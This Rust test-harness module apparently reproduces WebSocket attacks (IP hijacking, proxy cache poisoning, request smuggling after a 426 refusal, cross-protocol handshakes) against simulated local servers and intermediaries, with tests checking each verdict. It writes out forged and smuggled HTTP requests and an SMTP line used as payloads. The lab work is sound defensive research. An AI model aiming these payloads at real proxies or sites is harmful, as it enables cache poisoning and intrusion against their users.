//! The attacks, as procedures. Each one builds its scene from the lab's servers and an intermediary, runs a
//! [`Subject`]'s real client side, and decides the verdict only from what the servers logged and what the
//! intermediary traced — never from the intermediary's row or the subject's name.
//!
//! * [`ip_hijack`]: the client opens a connection to the attacker's server and, after the handshake, sends
//!   `GET /script.js/<nonce> HTTP/1.1` + `Host: target.example` (after an empty line) as its message. Succeeded iff the target server
//!   received that request.
//! * [`cache_poisoning`]: the same spoof; then a fresh client, meaning to reach the target, fetches
//!   `http://target.example/script.js/<nonce>` through the same intermediary. Succeeded iff it gets the
//!   attacker's script.
//! * [`request_smuggling`]: the backend refuses the upgrade (`426`); a raw attacker replays the subject's
//!   handshake request and then sends a second request. Succeeded iff the backend received the second request
//!   while the intermediary never parsed it (it went through a tunnel opened on a refusal).
//! * [`cross_protocol`]: the subject's client against a server that is not a WebSocket server. Succeeded iff
//!   the client considers the handshake complete.

use std::io;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::http::find;
use crate::intermediary::{Intermediary, Model, ModelProxy, RouteReason, Routes, Trace};
use crate::origin::{self, Received, Reflect, Role, Server};
use crate::subject::{ClientOutcome, Handshake, Subject, Target};

/// Host name of the honest site.
pub const TARGET_HOST: &str = "target.example";
/// Host name of the attacker's site (the WebSocket server the client means to reach).
pub const ATTACKER_HOST: &str = "attacker.example";
/// Host name of the refusing backend in the smuggling scene.
pub const BACKEND_HOST: &str = "backend.example";
/// Extra time left for intermediaries and servers after a spoof has been observed.
pub const SETTLE: Duration = Duration::from_millis(50);
/// Longest wait for a spoof to show up anywhere (it may legitimately never show up, e.g. when masked).
pub const SETTLE_LIMIT: Duration = Duration::from_secs(2);

/// What stands between the client and the servers.
#[derive(Clone)]
pub enum Via {
    /// Nothing.
    Direct,
    /// A built-in model.
    Model(Model),
    /// Anything else (e.g. a real proxy), built from the scene's routes.
    Custom(
        String,
        Arc<dyn Fn(Routes) -> Box<dyn Intermediary> + Send + Sync>,
    ),
}

impl Via {
    /// Name for reports.
    pub fn name(&self) -> String {
        match self {
            Via::Direct => "direct".into(),
            Via::Model(m) => m.name.into(),
            Via::Custom(n, _) => n.clone(),
        }
    }

    /// Builds the intermediary for a scene with `routes` (`None` when direct).
    pub fn build(&self, routes: Routes) -> Option<Box<dyn Intermediary>> {
        match self {
            Via::Direct => None,
            Via::Model(m) => Some(Box::new(ModelProxy::new(m, routes))),
            Via::Custom(_, f) => Some(f(routes)),
        }
    }
}

/// Which attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Spoofed request routed to the target.
    IpHijack,
    /// Attacker's response cached for the target's URL.
    CachePoisoning,
    /// Bytes tunnelled to a backend after it refused the upgrade.
    RequestSmuggling,
    /// Handshake completes against a non-WebSocket server.
    CrossProtocol(NonWs),
}

/// The verdict, decided from observations.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// The attack worked.
    Succeeded,
    /// The attack was tried and did not work.
    Failed,
    /// The handshake did not complete, so the attacker could not send its bytes (an attack that needs a
    /// completed handshake was not possible on this path).
    HandshakeFailed,
}

/// Where the spoofed request went, as observed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SpoofFate {
    /// The target server received it.
    pub reached_target: bool,
    /// An intermediary parsed it as an HTTP request (trace).
    pub parsed_by_intermediary: bool,
    /// An intermediary parsed it and sent it to the attacker's server (the paper's "routed to attacker").
    pub routed_to_attacker: bool,
    /// The attacker's server received it as an HTTP request (directly or via an intermediary).
    pub reached_attacker_as_http: bool,
}

/// Whose script a fetch returned.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Owner {
    /// The target's.
    Target,
    /// The attacker's.
    Attacker,
    /// Neither (error page, nothing).
    Neither,
}

/// Everything about one attack run.
#[derive(Clone, Debug)]
pub struct AttackReport {
    /// Which attack.
    pub attack: Attack,
    /// Subject name.
    pub subject: String,
    /// Intermediary name.
    pub via: String,
    /// The verdict.
    pub verdict: Verdict,
    /// The attacking client's observations.
    pub client: ClientOutcome,
    /// Where the spoofed request went (IP hijack, cache poisoning).
    pub spoof: SpoofFate,
    /// Whose script the victim's fetch returned (cache poisoning).
    pub fetched: Option<Owner>,
    /// Human-readable evidence lines, each from a log or trace.
    pub evidence: Vec<String>,
    /// The intermediary's trace (empty when direct).
    pub trace: Trace,
    /// What each server received, by server name.
    pub received: Vec<(String, Vec<Received>)>,
}

/// The attacker's message contents: a forged request for `path` on the target. It starts with an empty line
/// (which HTTP parsers skip before a request line, RFC 7230 §3.5), so that a parser that resynchronises on
/// line boundaries after the variant's frame header meets the request line on a line of its own.
pub fn spoof_request(path: &str) -> Vec<u8> {
    format!("\r\nGET {path} HTTP/1.1\r\nHost: {TARGET_HOST}\r\n\r\n").into_bytes()
}

/// The servers of the IP-hijacking and cache-poisoning scenes, and their routes.
pub struct Scene {
    /// `target.example`.
    pub target: Server,
    /// `attacker.example`: the subject's handshake server plus the attacker's web server.
    pub site: Server,
}

impl Scene {
    /// Starts the target and the attacker's site for `subject`.
    pub async fn start(subject: Arc<dyn Subject>) -> io::Result<Scene> {
        Ok(Scene {
            target: origin::start_http(Role::Target).await?,
            site: origin::start_attacker_site(subject).await?,
        })
    }

    /// Name resolution for intermediaries that route by `Host`.
    pub fn routes(&self) -> Routes {
        Routes::new()
            .with(TARGET_HOST, self.target.addr)
            .with(ATTACKER_HOST, self.site.addr)
    }
}

async fn entry(proxy: &Option<Box<dyn Intermediary>>, dst: SocketAddr) -> io::Result<SocketAddr> {
    match proxy {
        Some(p) => p.intercept(dst).await,
        None => Ok(dst),
    }
}

/// Runs the spoofing client of the IP-hijacking and cache-poisoning attacks. Returns the client outcome,
/// the nonce path, and the spoof's fate.
async fn spoof(
    subject: &Arc<dyn Subject>,
    scene: &Scene,
    proxy: &Option<Box<dyn Intermediary>>,
) -> io::Result<(ClientOutcome, String, SpoofFate, Vec<String>)> {
    let nonce = crate::util::nonce();
    let path = format!("/script.js/{nonce}");
    let addr = entry(proxy, scene.site.addr).await?;
    let io = TcpStream::connect(addr).await?;
    let target = Target::new(ATTACKER_HOST, "/ws");
    let client = subject
        .run_client(Box::new(io), &target, &spoof_request(&path))
        .await;
    if client.payload_sent {
        settle(scene, proxy, &nonce).await;
    }

    let mut ev = Vec::new();
    let mut fate = SpoofFate::default();
    for r in scene.target.records_with(nonce.as_bytes()) {
        fate.reached_target = true;
        ev.push(format!(
            "target.example received the spoofed request (conn #{} from {})",
            r.conn, r.peer
        ));
    }
    for r in scene.site.records_with(nonce.as_bytes()) {
        if let origin::Kind::Request { on_upgraded, .. } = r.kind {
            fate.reached_attacker_as_http = true;
            ev.push(format!(
                "attacker.example received the spoofed request as HTTP ({})",
                if on_upgraded {
                    "on the upgraded connection"
                } else {
                    "on a new connection"
                }
            ));
        }
    }
    if let Some(p) = proxy {
        let trace = p.trace();
        let mut spoof_conn = None;
        for e in &trace.events {
            if let crate::intermediary::EventKind::Request { raw, .. } = &e.kind {
                if find(raw, nonce.as_bytes()).is_some() {
                    fate.parsed_by_intermediary = true;
                    spoof_conn = Some(e.conn);
                    ev.push(format!(
                        "{} parsed the spoofed bytes as a request",
                        p.name()
                    ));
                }
            }
            if let crate::intermediary::EventKind::Routed { backend, why, name } = &e.kind {
                if spoof_conn == Some(e.conn) {
                    ev.push(format!(
                        "{} routed it to {backend} ({name:?}, {why:?})",
                        p.name()
                    ));
                    if *backend == scene.site.addr {
                        fate.routed_to_attacker = true;
                    }
                    spoof_conn = None;
                }
            }
        }
    }
    Ok((client, path, fate, ev))
}

fn handshake_line(c: &ClientOutcome) -> String {
    match &c.handshake {
        Handshake::Completed => "handshake completed".into(),
        Handshake::Rejected { status, reason } => {
            format!("handshake rejected ({status:?}): {reason}")
        }
        Handshake::Failed { stage, error } => format!("handshake failed at {stage:?}: {error}"),
    }
}

/// Waits (at most [`SETTLE_LIMIT`]) until the spoof has been seen by a server and, if an intermediary parsed
/// it, until that intermediary has answered or closed that connection; then [`SETTLE`] more. The verdicts
/// only read logs after this, so a slow machine delays a run instead of changing its outcome.
async fn settle(scene: &Scene, proxy: &Option<Box<dyn Intermediary>>, nonce: &str) {
    use crate::intermediary::EventKind as E;
    let deadline = tokio::time::Instant::now() + SETTLE_LIMIT;
    loop {
        let seen = scene.target.saw(nonce.as_bytes()) || scene.site.saw(nonce.as_bytes());
        let handled = match proxy {
            None => true,
            Some(p) => {
                let t = p.trace();
                let at = t.events.iter().position(
                    |e| matches!(&e.kind, E::Request { raw, .. } if find(raw, nonce.as_bytes()).is_some()),
                );
                match at {
                    None => true,
                    Some(i) => t.events[i..].iter().any(|e| {
                        e.conn == t.events[i].conn
                            && matches!(
                                &e.kind,
                                E::Bytes {
                                    dir: crate::intermediary::Dir::BackendToClient,
                                    ..
                                } | E::Synthesized { .. }
                                    | E::Closed { .. }
                            )
                    }),
                }
            }
        };
        if (seen && handled) || tokio::time::Instant::now() >= deadline {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    tokio::time::sleep(SETTLE).await;
}

/// IP hijacking (Auger; Huang et al. §III-1).
pub async fn ip_hijack(subject: Arc<dyn Subject>, via: &Via) -> io::Result<AttackReport> {
    let scene = Scene::start(subject.clone()).await?;
    let proxy = via.build(scene.routes());
    let (client, _path, spoof, mut evidence) = spoof(&subject, &scene, &proxy).await?;
    evidence.insert(0, handshake_line(&client));
    let verdict = if !client.completed() {
        Verdict::HandshakeFailed
    } else if spoof.reached_target {
        Verdict::Succeeded
    } else {
        Verdict::Failed
    };
    Ok(AttackReport {
        attack: Attack::IpHijack,
        subject: subject.name().into(),
        via: via.name(),
        verdict,
        client,
        spoof,
        fetched: None,
        evidence,
        trace: proxy.as_ref().map(|p| p.trace()).unwrap_or_default(),
        received: vec![
            ("target".into(), scene.target.received()),
            ("attacker-site".into(), scene.site.received()),
        ],
    })
}

/// Fetches `http://target.example{path}` as a fresh victim whose connection is meant for the target.
async fn victim_fetch(
    proxy: &Option<Box<dyn Intermediary>>,
    target: SocketAddr,
    path: &str,
) -> io::Result<Vec<u8>> {
    let addr = entry(proxy, target).await?;
    let mut s = TcpStream::connect(addr).await?;
    s.write_all(
        format!("GET {path} HTTP/1.1\r\nHost: {TARGET_HOST}\r\nConnection: close\r\n\r\n")
            .as_bytes(),
    )
    .await?;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(3), s.read_to_end(&mut out)).await;
    Ok(out)
}

/// Whose script `body` is.
pub fn owner(body: &[u8]) -> Owner {
    if find(body, b"served by ATTACKER").is_some() {
        Owner::Attacker
    } else if find(body, b"served by TARGET").is_some() {
        Owner::Target
    } else {
        Owner::Neither
    }
}

/// Cache poisoning (Huang et al. §III-2).
pub async fn cache_poisoning(subject: Arc<dyn Subject>, via: &Via) -> io::Result<AttackReport> {
    let scene = Scene::start(subject.clone()).await?;
    let proxy = via.build(scene.routes());
    let (client, path, spoof, mut evidence) = spoof(&subject, &scene, &proxy).await?;
    evidence.insert(0, handshake_line(&client));
    let fetched = victim_fetch(&proxy, scene.target.addr, &path).await?;
    let who = owner(&fetched);
    evidence.push(format!(
        "victim fetching http://{TARGET_HOST}{path} got the {who:?} script ({} bytes)",
        fetched.len()
    ));
    if let Some(p) = &proxy {
        let t = p.trace();
        for k in t.cache_stores().iter().filter(|k| k.ends_with(&path)) {
            evidence.push(format!("{} stored {k}", p.name()));
        }
        for k in t.cache_hits().iter().filter(|k| k.ends_with(&path)) {
            evidence.push(format!("{} served {k} from its cache", p.name()));
        }
    }
    let verdict = if who == Owner::Attacker {
        Verdict::Succeeded
    } else if !client.completed() {
        Verdict::HandshakeFailed
    } else {
        Verdict::Failed
    };
    Ok(AttackReport {
        attack: Attack::CachePoisoning,
        subject: subject.name().into(),
        via: via.name(),
        verdict,
        client,
        spoof,
        fetched: Some(who),
        evidence,
        trace: proxy.as_ref().map(|p| p.trace()).unwrap_or_default(),
        received: vec![
            ("target".into(), scene.target.received()),
            ("attacker-site".into(), scene.site.received()),
        ],
    })
}

/// Request smuggling through an intermediary when the backend refuses the upgrade with `refusal` (e.g. 426).
pub async fn request_smuggling(
    subject: Arc<dyn Subject>,
    via: &Via,
    refusal: u16,
) -> io::Result<AttackReport> {
    let backend = origin::start_http(Role::Refuser(refusal)).await?;
    let routes = Routes::new().with(BACKEND_HOST, backend.addr);
    let proxy = via.build(routes);
    let addr = entry(&proxy, backend.addr).await?;
    let target = Target::new(BACKEND_HOST, "/ws");

    // 1. the subject's own client, to learn its handshake bytes (and what a browser would see)
    let io = TcpStream::connect(addr).await?;
    let client = subject.run_client(Box::new(io), &target, b"").await;
    let mut evidence = vec![handshake_line(&client)];

    // 2. a raw attacker replays them and sends a second request on the same connection
    let nonce = crate::util::nonce();
    let smuggled = format!("GET /internal/{nonce} HTTP/1.1\r\nHost: {BACKEND_HOST}\r\n\r\n");
    let mut s = TcpStream::connect(addr).await?;
    s.write_all(&client.request).await?;
    let mut first = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut first))
        .await
        .ok()
        .and_then(|r| r.ok())
        .unwrap_or(0);
    evidence.push(format!(
        "replayed handshake answered: {:?}",
        String::from_utf8_lossy(&first[..n])
            .lines()
            .next()
            .unwrap_or("")
    ));
    let _ = s.write_all(smuggled.as_bytes()).await;
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(Duration::from_millis(300), s.read_to_end(&mut rest)).await;
    let deadline = tokio::time::Instant::now() + SETTLE_LIMIT;
    while !backend.saw(nonce.as_bytes()) && tokio::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    tokio::time::sleep(SETTLE).await;

    let reached = backend.records_with(nonce.as_bytes());
    let trace = proxy.as_ref().map(|p| p.trace()).unwrap_or_default();
    let parsed = trace.parsed_request_containing(&nonce);
    for r in &reached {
        evidence.push(format!(
            "backend received the second request (conn #{} from {})",
            r.conn, r.peer
        ));
    }
    if parsed {
        evidence.push("the intermediary parsed the second request itself".into());
    }
    for t in trace.tunnels() {
        evidence.push(format!("the intermediary opened a tunnel: {t:?}"));
    }
    let verdict = if proxy.is_none() {
        evidence.push("no intermediary: nothing to smuggle past".into());
        Verdict::Failed
    } else if !reached.is_empty() && !parsed {
        Verdict::Succeeded
    } else {
        Verdict::Failed
    };
    Ok(AttackReport {
        attack: Attack::RequestSmuggling,
        subject: subject.name().into(),
        via: via.name(),
        verdict,
        client,
        spoof: SpoofFate::default(),
        fetched: None,
        evidence,
        trace,
        received: vec![("backend".into(), backend.received())],
    })
}

/// A server that is not a WebSocket server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NonWs {
    /// HTTP server answering `200` with the request head as body.
    ReflectorHttp,
    /// Server writing the request head back verbatim, then echoing.
    ReflectorRaw,
    /// Raw TCP echo.
    Echo,
    /// SMTP-like line server.
    SmtpLike,
}

impl NonWs {
    /// All of them.
    pub const ALL: [NonWs; 4] = [
        NonWs::ReflectorHttp,
        NonWs::ReflectorRaw,
        NonWs::Echo,
        NonWs::SmtpLike,
    ];

    async fn start(self) -> io::Result<Server> {
        match self {
            NonWs::ReflectorHttp => origin::start_reflector(Reflect::Http200).await,
            NonWs::ReflectorRaw => origin::start_reflector(Reflect::Raw).await,
            NonWs::Echo => origin::start_echo().await,
            NonWs::SmtpLike => origin::start_line_server().await,
        }
    }
}

/// Cross-protocol check: does the subject's client complete its handshake against `server`?
pub async fn cross_protocol(subject: Arc<dyn Subject>, server: NonWs) -> io::Result<AttackReport> {
    let srv = server.start().await?;
    let io = TcpStream::connect(srv.addr).await?;
    let target = Target::new("victim.example", "/");
    let payload = b"RCPT TO:<victim@victim.example>\r\n";
    let client = subject.run_client(Box::new(io), &target, payload).await;
    tokio::time::sleep(SETTLE).await;
    let received = srv.received();
    let mut evidence = vec![handshake_line(&client)];
    evidence.push(format!(
        "{} received {} records, {} bytes",
        srv.name,
        received.len(),
        received.iter().map(|r| r.kind.bytes().len()).sum::<usize>()
    ));
    if client.payload_sent {
        evidence.push(format!(
            "payload reached the server verbatim: {}",
            srv.saw(payload)
        ));
    }
    let verdict = if client.completed() {
        Verdict::Succeeded
    } else {
        Verdict::Failed
    };
    Ok(AttackReport {
        attack: Attack::CrossProtocol(server),
        subject: subject.name().into(),
        via: "direct".into(),
        verdict,
        client,
        spoof: SpoofFate::default(),
        fetched: None,
        evidence,
        trace: Trace::default(),
        received: vec![(srv.name.clone(), received)],
    })
}

/// Whether any route in `trace` went by `Host` to `host`.
pub fn routed_by_host(trace: &Trace, host: &str) -> bool {
    trace
        .routes()
        .iter()
        .any(|(_, why)| matches!(why, RouteReason::ByHost(h) if h == host))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::intermediary::model;
    use crate::strawman::{Kind, Strawman};

    fn straw(kind: Kind) -> Arc<dyn Subject> {
        Arc::new(Strawman { kind })
    }

    fn via(name: &str) -> Via {
        Via::Model(*model(name).expect("model"))
    }

    fn show(r: &AttackReport) -> String {
        format!(
            "{} via {}: {:?}\n{}\n{}",
            r.subject,
            r.via,
            r.verdict,
            r.evidence.join("\n"),
            r.trace.summary()
        )
    }

    #[tokio::test]
    async fn post_strawman_is_hijacked_through_host_routing_proxy() {
        let r = ip_hijack(straw(Kind::Post), &via("transparent-host-routing"))
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Succeeded, "{}", show(&r));
        assert!(r.spoof.reached_target && r.spoof.parsed_by_intermediary);
        assert!(routed_by_host(&r.trace, TARGET_HOST));
    }

    #[tokio::test]
    async fn upgrade_strawman_is_hijacked_through_host_routing_proxy_that_ignores_upgrade() {
        let r = ip_hijack(straw(Kind::Upgrade), &via("transparent-host-routing"))
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Succeeded, "{}", show(&r));
    }

    #[tokio::test]
    async fn connect_strawman_cannot_even_connect_through_host_routing_proxy() {
        let r = ip_hijack(straw(Kind::Connect), &via("transparent-host-routing"))
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::HandshakeFailed, "{}", show(&r));
        assert!(!r.spoof.reached_target);
    }

    #[tokio::test]
    async fn no_hijack_direct_or_through_upgrade_aware_proxy() {
        for s in [Kind::Post, Kind::Upgrade] {
            for v in [Via::Direct, via("upgrade-aware")] {
                let r = ip_hijack(straw(s), &v).await.unwrap();
                assert_eq!(r.verdict, Verdict::Failed, "{}", show(&r));
                assert!(!r.spoof.reached_target);
            }
        }
    }

    #[tokio::test]
    async fn post_strawman_poisons_ip_routing_host_caching_proxy() {
        let r = cache_poisoning(
            straw(Kind::Post),
            &via("transparent-ip-routing-host-caching"),
        )
        .await
        .unwrap();
        assert_eq!(r.verdict, Verdict::Succeeded, "{}", show(&r));
        assert_eq!(r.fetched, Some(Owner::Attacker));
        assert!(r.spoof.routed_to_attacker);
        assert!(!r.trace.cache_stores().is_empty() && !r.trace.cache_hits().is_empty());
        // the target itself never served that path
        let target = &r.received[0].1;
        assert!(target.is_empty(), "{target:?}");
    }

    #[tokio::test]
    async fn connect_strawman_does_not_poison_the_caching_proxy() {
        let r = cache_poisoning(
            straw(Kind::Connect),
            &via("transparent-ip-routing-host-caching"),
        )
        .await
        .unwrap();
        assert_eq!(r.verdict, Verdict::Failed, "{}", show(&r));
        assert_eq!(r.fetched, Some(Owner::Target));
    }

    #[tokio::test]
    async fn no_poisoning_through_upgrade_aware_proxy() {
        for s in [Kind::Post, Kind::Upgrade, Kind::Connect] {
            let r = cache_poisoning(straw(s), &via("upgrade-aware"))
                .await
                .unwrap();
            assert_ne!(r.verdict, Verdict::Succeeded, "{}", show(&r));
            assert_eq!(r.fetched, Some(Owner::Target), "{}", show(&r));
            assert!(!r.spoof.reached_target);
        }
    }

    #[tokio::test]
    async fn connect_passthrough_routes_spoof_by_ip_without_hijack() {
        let r = ip_hijack(straw(Kind::Connect), &via("connect-passthrough-parse"))
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Failed, "{}", show(&r));
        assert!(
            r.spoof.parsed_by_intermediary && r.spoof.routed_to_attacker,
            "{}",
            show(&r)
        );
    }

    #[tokio::test]
    async fn smuggling_through_tunnel_any_response_but_not_upgrade_aware() {
        let r = request_smuggling(straw(Kind::Upgrade), &via("tunnel-any-response"), 426)
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Succeeded, "{}", show(&r));
        let r = request_smuggling(straw(Kind::Upgrade), &via("upgrade-aware"), 426)
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Failed, "{}", show(&r));
        let r = request_smuggling(straw(Kind::Upgrade), &Via::Direct, 426)
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Failed);
    }

    #[tokio::test]
    async fn strawmen_do_not_complete_against_non_websocket_servers() {
        for s in [Kind::Post, Kind::Upgrade, Kind::Connect] {
            for srv in NonWs::ALL {
                let r = cross_protocol(straw(s), srv).await.unwrap();
                assert_eq!(r.verdict, Verdict::Failed, "{}", show(&r));
            }
        }
    }

    /// A deliberately naive client (accepts any `200`/`101` status line) shows the check can fail.
    #[tokio::test]
    async fn naive_client_completes_against_http_reflector() {
        struct Naive;
        impl Subject for Naive {
            fn name(&self) -> &str {
                "naive"
            }
            fn run_client<'a>(
                &'a self,
                io: crate::subject::BoxIo,
                t: &'a Target,
                payload: &'a [u8],
            ) -> crate::subject::BoxFuture<'a, ClientOutcome> {
                Box::pin(async move {
                    let mut c = crate::http::Conn::new(io);
                    let req = format!("GET {} HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", t.path, t.host);
                    let _ = c.send(req.as_bytes()).await;
                    match c.read_response_head(t.handshake_timeout).await {
                        Ok(h) if h.status == 200 || h.status == 101 => {
                            let _ = c.send(payload).await;
                            ClientOutcome {
                                handshake: Handshake::Completed,
                                request: req.into_bytes(),
                                response: h.raw,
                                handshake_time: None,
                                payload_sent: true,
                                wire_payload: payload.to_vec(),
                                messages: vec![],
                                raw_after: vec![],
                                end: crate::subject::End::StillOpen,
                            }
                        }
                        _ => ClientOutcome::failed(
                            crate::subject::Stage::Validate,
                            "no",
                            vec![],
                            vec![],
                        ),
                    }
                })
            }
            fn accept<'a>(
                &'a self,
                _io: crate::subject::BoxIo,
            ) -> crate::subject::BoxFuture<'a, crate::subject::Accepted> {
                Box::pin(async {
                    crate::subject::Accepted::Failed {
                        request: vec![],
                        error: "client only".into(),
                    }
                })
            }
            fn echo<'a>(
                &'a self,
                _c: crate::subject::Upgraded,
                _idle: Duration,
            ) -> crate::subject::BoxFuture<'a, crate::subject::EchoReport> {
                Box::pin(async {
                    crate::subject::EchoReport {
                        messages: vec![],
                        end: crate::subject::End::Closed,
                    }
                })
            }
        }
        let r = cross_protocol(Arc::new(Naive), NonWs::ReflectorHttp)
            .await
            .unwrap();
        assert_eq!(r.verdict, Verdict::Succeeded, "{}", show(&r));
    }
}
